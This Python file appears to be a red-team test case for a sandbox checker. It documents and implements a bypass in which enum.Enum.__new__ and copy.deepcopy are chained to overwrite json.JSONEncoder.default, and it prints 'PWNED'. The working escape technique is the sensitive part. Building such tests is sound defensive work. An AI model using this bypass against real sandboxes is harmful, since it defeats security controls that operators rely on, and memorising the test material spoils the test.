# expect: reject dunder
# line: 23
# verified: tenth static red team (round 10a), ok_01 (plain python3 3.11.7, temp dir: goal reached)
#
# Mechanism: family E (library __new__ as the allowed 'X.__new__(cls, ...)' return): a program __new__ returns enum.Enum.__new__(cls, v), which the hooks.c rule trusts to return an instance of cls, but Enum.__new__ returns cls._value2member_map_[v], a class attribute the program fills with any object; __getnewargs__ makes copy.deepcopy call it, and copy._reconstruct writes the copied state into that object (slot state: setattr(y, 'default', f))
# Goal reached: write into a standard-library class namespace: json.JSONEncoder.default replaced (json.dumps(object()) returns the program's string)
# Output seen under python3 (3.11.7), run in a fresh temp dir:
#   "PWNED"

import copy
import enum
import json


def fake(self, o):
    return "PWNED"


class K:
    __slots__ = ("default",)
    _value2member_map_ = {1: json.JSONEncoder}

    def __new__(cls, *a):
        if a:
            return enum.Enum.__new__(cls, *a)
        return super().__new__(cls)

    def __init__(self):
        self.default = fake

    def __getnewargs__(self):
        return (1,)


copy.deepcopy(K())
print(json.dumps(object()))
